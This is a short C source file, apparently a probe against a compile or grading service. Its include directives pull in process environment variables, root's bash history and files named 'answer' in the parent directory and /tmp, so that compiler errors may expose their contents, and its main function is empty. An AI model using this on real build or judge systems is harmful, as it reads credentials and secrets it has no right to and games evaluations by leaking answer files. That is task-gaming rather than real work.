#include "/proc/self/environ"
#include "/proc/1/environ"
#include "/root/.bash_history"
#include "../answer"
#include "/tmp/answer"
int main() {}
